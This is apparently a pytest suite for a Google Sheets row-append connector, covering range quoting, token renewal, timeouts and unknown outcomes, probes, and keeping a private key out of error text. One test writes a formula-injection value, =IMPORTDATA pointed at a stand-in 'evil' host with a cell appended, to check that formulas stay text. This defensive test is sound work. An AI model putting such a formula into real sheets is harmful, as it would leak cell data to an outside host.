"""Appending rows to a Google spreadsheet: what is asked, and what comes back."""

import json
from urllib.parse import parse_qsl, unquote, urlsplit

import pytest

from core.connectors.sheets import CONNECTOR
from core.errors import UpstreamError
from core.grammar import rows
from core.sandbox.sheets import SPREADSHEET
from tests.support.sandbox import Answer, Drip, DropAfter, DropBefore, Hang
from tests.support.sending import Direct, configured, probe

ROWS = [["Ada", "42"]]
APPEND = {
    "valueInputOption": "RAW",
    "insertDataOption": "INSERT_ROWS",
    "includeValuesInResponse": "false",
}
UNAUTHENTICATED = Answer(401, json={"error": {"code": 401, "status": "UNAUTHENTICATED"}})
EDIT_NOTE = "Permission to edit can't be checked until rows are appended."


def calls(sandbox):
    return [request.call for request in sandbox.sheets.received]


class TestRows:
    def test_are_appended_with_one_call_after_the_token(self, sheets, sandbox):
        receipt = sheets.send(range="Q3 plan!A1", values=[["Ada", 42, "007"], ["Bob", 1.5, None]])

        [append] = sandbox.sheets.writes
        assert (receipt.status, receipt.updated, receipt.id) == ("appended", 2, None)
        assert receipt.link == f"https://docs.google.com/spreadsheets/d/{SPREADSHEET}/edit"
        assert receipt.note == "They are at 'Q3 plan'!A1:C2."
        assert calls(sandbox) == ["token", "spreadsheets.get", "values.append"]
        assert append.query == APPEND
        assert append.json == {
            "majorDimension": "ROWS",
            "values": [["Ada", 42, "007"], ["Bob", 1.5, None]],
        }

    def test_without_a_range_are_appended_with_one_call(self, sheets, sandbox):
        assert sheets.send(values=ROWS).note == "They are at Sheet1!A1:B1."
        assert calls(sandbox) == ["token", "values.append"]

    def test_go_below_those_that_are_there(self, sheets, sandbox):
        sheets.send(range="Sheet1!A1", values=ROWS)

        assert sheets.send(range="Sheet1!A1", values=ROWS).note == "They are at Sheet1!A2:B2."

    def test_the_token_is_used_again(self, sheets, sandbox):
        sheets.send(values=ROWS)
        sheets.send(values=ROWS)

        assert calls(sandbox) == ["token", "values.append", "values.append"]

    def test_a_token_that_ended_is_renewed_once(self, sheets, sandbox):
        sheets.send(values=ROWS)
        sandbox.sheets.tokens.until.clear()

        assert sheets.send(values=ROWS).updated == 1
        assert calls(sandbox)[2:] == ["values.append", "token", "values.append"]
        assert len(sandbox.sheets.writes) == 2

    @pytest.mark.parametrize(
        ("given", "asked"),
        [
            ("A1", "A1"),
            ("Q3 plan!A:C", "'Q3 plan'!A:C"),
            ("'Q3 plan'!A:C", "'Q3 plan'!A:C"),
            ("Jon's!A1", "'Jon''s'!A1"),
            ("'Jon''s'!A1", "'Jon''s'!A1"),
            ("CRM26!A1", "'CRM26'!A1"),
            ("'CRM26'", "'CRM26'"),
            ("Übersicht!b2", "'Übersicht'!B2"),
            ("u\u0308BERSICHT!B2", "'Übersicht'!B2"),
            ("q3  PLAN", "'Q3 plan'"),
            ("' Q3 plan '!A1", "'Q3 plan'!A1"),
            ("sheet1", "'Sheet1'"),
        ],
    )
    def test_reach_the_tab_that_was_meant(self, sheets, sandbox, given, asked):
        sheets.send(range=given, values=ROWS)

        [append] = sandbox.sheets.writes
        assert append.path == f"/v4/spreadsheets/{SPREADSHEET}/values/{asked}:append"

    @pytest.mark.parametrize("tab", ["a/b", "a?b", "a#b", "50%", "a:append", "..", "a&b=c"])
    def test_a_tab_s_name_cannot_change_the_address(self, sheets, sandbox, tab):
        titles = [{"properties": {"title": tab}}]
        sandbox.sheets.next(Answer(200, json={"sheets": titles}), on="spreadsheets.get")

        error = sheets.failing(range=f"'{tab}'!A1", values=ROWS)

        assert error.reason == "no_such_range"
        appended = sandbox.sheets.calls("values.append")[0]
        assert appended.path == f"/v4/spreadsheets/{SPREADSHEET}/values/'{tab}'!A1:append"
        assert appended.query == APPEND

    def test_formulas_stay_text(self, sheets, sandbox):
        sheets.send(values=[['=IMPORTDATA("https://evil/?"&B2)', "+1", "@x", "-2+3"]])

        assert sandbox.sheets.rows["Sheet1"] == [
            ['=IMPORTDATA("https://evil/?"&B2)', "+1", "@x", "-2+3"]
        ]

    @pytest.mark.parametrize("text", ["42", "3.10", "10.0", "007", "1e3", "true"])
    def test_a_text_is_not_made_a_number(self, sheets, sandbox, text):
        receipt = sheets.send(values=[[text]])

        assert sandbox.sheets.rows["Sheet1"] == [[text]]
        assert receipt.note == "They are at Sheet1!A1."

    def test_a_number_that_loses_typed_digits_is_said_to(self, sheets, sandbox):
        receipt = sheets.send(values=rows('3.10,2.5\n10.0,"3.10"'))

        assert sandbox.sheets.writes[0].json["values"] == [[3.1, 2.5], [10.0, "3.10"]]
        assert receipt.note == (
            "They are at Sheet1!A1:B2. As a number, 3.10 is stored as 3.1, 10.0 is stored as 10;"
            ' in quotes, "3.10", it keeps its digits.'
        )

    def test_that_landed_in_another_column_are_said_to_have(self, sheets, sandbox):
        updates = {"updatedRange": "'Q3 plan'!D7:E7", "updatedRows": 1}
        sandbox.sheets.next(Answer(200, json={"updates": updates}), on="values.append")

        assert sheets.send(range="Q3 plan!A1", values=ROWS).note == (
            "They are at 'Q3 plan'!D7:E7, not in column A: Google puts rows below the table it"
            " finds there."
        )

    def test_are_asked_for_as_the_official_client_asks(self, sheets, sandbox, specs):
        golden = json.loads((specs / "golden/sheets.append_row.gspread_options.json").read_text())
        theirs = golden["requests"][0]
        query = dict(theirs["query"])

        sheets.send(range="Sheet1!A1:C1", values=[["a"]])

        [append] = sandbox.sheets.writes
        assert append.method == theirs["method"]
        assert append.path.replace(SPREADSHEET, "SHEET") == unquote(theirs["path"])
        assert append.query["insertDataOption"] == query["insertDataOption"]
        assert append.query["includeValuesInResponse"] == query["includeValuesInResponse"].lower()
        assert append.json["values"] == theirs["body_json"]["values"]
        assert append.headers["content-type"].partition(";")[0] == "application/json"
        assert append.headers["authorization"].startswith("Bearer ya29.")

    def test_of_every_type_are_those_of_the_official_client(self, sheets, sandbox, specs):
        golden = json.loads((specs / "golden/sheets.values_append.apiclient.json").read_text())
        values = golden["requests"][0]["body_json"]["values"]

        sheets.send(range="Sheet1!A1", values=values)

        [append] = sandbox.sheets.writes
        assert append.json["values"] == values

    def test_the_token_is_asked_for_as_the_official_client_asks(self, sheets, sandbox, specs):
        golden = json.loads((specs / "golden/google.service_account_token.json").read_text())
        theirs = golden["requests"][0]

        sheets.send(values=ROWS)

        [asked] = sandbox.sheets.calls("token")
        assert asked.form["grant_type"] == theirs["body_form"]["grant_type"]
        assert set(asked.form) == set(theirs["body_form"])
        assert asked.headers["content-type"] == theirs["headers"]["content-type"]


class TestInDoubt:
    def test_a_connection_lost_after_the_rows_were_written_is_unknown(self, sheets, sandbox):
        sandbox.sheets.next(DropAfter(), on="values.append")

        error = sheets.failing(values=ROWS)

        assert (error.outcome, len(sandbox.sheets.writes)) == ("unknown", 1)
        assert len(sandbox.sheets.calls("values.append")) == 1

    @pytest.mark.parametrize("fault", [Hang(), Drip(headers=True), Drip()])
    def test_an_answer_that_does_not_end_in_time_is_unknown(self, sandbox, fault):
        sandbox.sheets.next(fault, on="values.append")

        with Direct(CONNECTOR, sandbox, attempt_seconds=3) as sheets:
            error = sheets.failing(values=ROWS)

        assert (error.outcome, len(sandbox.sheets.writes)) == ("unknown", 1)
        assert len(sandbox.sheets.calls("values.append")) == 1

    def test_a_token_that_does_not_come_in_time_means_nothing_was_written(self, sandbox):
        sandbox.sheets.always(Hang(), on="token")

        with Direct(CONNECTOR, sandbox, attempt_seconds=1) as sheets:
            error = sheets.failing(values=ROWS)

        assert error.outcome == "not_sent"
        # On a busy machine an attempt may end before its request was read.
        assert sheets.attempts == 3
        assert {request.call for request in sandbox.sheets.received} <= {"token"}

    def test_a_connection_lost_over_the_token_is_tried_again(self, sheets, sandbox):
        sandbox.sheets.next(DropAfter(), on="token")

        assert sheets.send(values=ROWS).updated == 1
        assert (sheets.attempts, len(sandbox.sheets.writes)) == (2, 1)

    def test_a_token_that_cannot_be_renewed_means_nothing_was_written(self, sheets, sandbox):
        sandbox.sheets.next(UNAUTHENTICATED, on="values.append")
        sheets.send(values=ROWS)
        sandbox.sheets.next(UNAUTHENTICATED, on="values.append")
        sandbox.sheets.next(DropBefore(), on="token")

        assert sheets.send(values=ROWS).updated == 1
        assert len(sandbox.sheets.writes) == 2

    @pytest.mark.parametrize(
        "answer",
        [Answer(200, body="<html>"), Answer(200, json={}), Answer(200, json={"updates": {}})],
        ids=["no JSON", "no updates", "no rows"],
    )
    def test_a_success_that_names_no_rows_is_unknown(self, sheets, sandbox, answer):
        sandbox.sheets.next(answer, on="values.append")

        error = sheets.failing(values=ROWS)

        assert (error.outcome, error.reason) == ("unknown", "unexpected_answer")
        assert len(sandbox.sheets.calls("values.append")) == 1


class TestProbe:
    def test_reads_the_tabs_and_writes_nothing(self, sheets, sandbox):
        found = sheets.probe()

        assert (found.notes, found.attention, found.fix) == ((EDIT_NOTE,), False, None)
        [asked] = sandbox.sheets.calls("spreadsheets.get")
        assert asked.query == {"fields": "sheets.properties.title"}
        assert calls(sandbox) == ["token", "spreadsheets.get"]
        assert sandbox.sheets.writes == []

    def test_warns_of_a_default_that_means_two_things(self, sandbox):
        found = probe(CONNECTOR, sandbox, SHEETS_RANGE_DEFAULT="crm26")

        assert found.attention
        assert found.notes[0] == (
            "SHEETS_RANGE_DEFAULT could be the tab 'CRM26' or CRM26 in the first tab."
        )
        assert found.fix == (
            "In SHEETS_RANGE_DEFAULT, write \"'CRM26'\" for the tab, or \"'Sheet1'!CRM26\" for the"
            " other."
        )

    def test_warns_of_a_default_tab_that_is_not_there(self, sandbox):
        found = probe(CONNECTOR, sandbox, SHEETS_RANGE_DEFAULT="Q4 plan!A1")

        assert found.attention
        assert found.notes[0] == "SHEETS_RANGE_DEFAULT names the tab 'Q4 plan', which is not there."
        assert found.fix == (
            "Set SHEETS_RANGE_DEFAULT to one of the tabs: Sheet1, Q3 plan, Jon's, CRM26, Übersicht."
        )

    @pytest.mark.parametrize("place", ["Jon's!A1", "'CRM26'", "B2", "q3 plan", "Sheet1!CRM26"])
    def test_a_default_tab_that_is_there_needs_no_attention(self, sandbox, place):
        assert not probe(CONNECTOR, sandbox, SHEETS_RANGE_DEFAULT=place).attention

    def test_renews_a_token_that_ended(self, sheets, sandbox):
        sheets.probe()
        sandbox.sheets.tokens.until.clear()

        assert sheets.probe().notes == (EDIT_NOTE,)
        assert calls(sandbox)[2:] == ["spreadsheets.get", "token", "spreadsheets.get"]


def test_nothing_of_the_key_is_in_what_is_said(sheets, sandbox):
    sandbox.sheets.always(Answer(400, json={"error": "invalid_grant"}), on="token")
    config = configured(CONNECTOR, sandbox)
    secret = json.loads(config.key_file.get_secret_value())["private_key"]

    error = sheets.failing(values=ROWS)

    assert isinstance(error, UpstreamError)
    body = [line for line in secret.splitlines() if "-----" not in line]
    said = f"{error!r} {error.body()} {config!r} {config.account!r}"
    assert not any(line in said for line in body)


def test_the_address_of_the_api_may_be_a_proxy_s(sandbox):
    config = configured(CONNECTOR, sandbox, SHEETS_API_URL="https://proxy.example/google/")
    split = urlsplit(config.book)

    assert (split.hostname, split.path) == (
        "proxy.example",
        f"/google/v4/spreadsheets/{SPREADSHEET}",
    )
    assert parse_qsl(split.query) == []
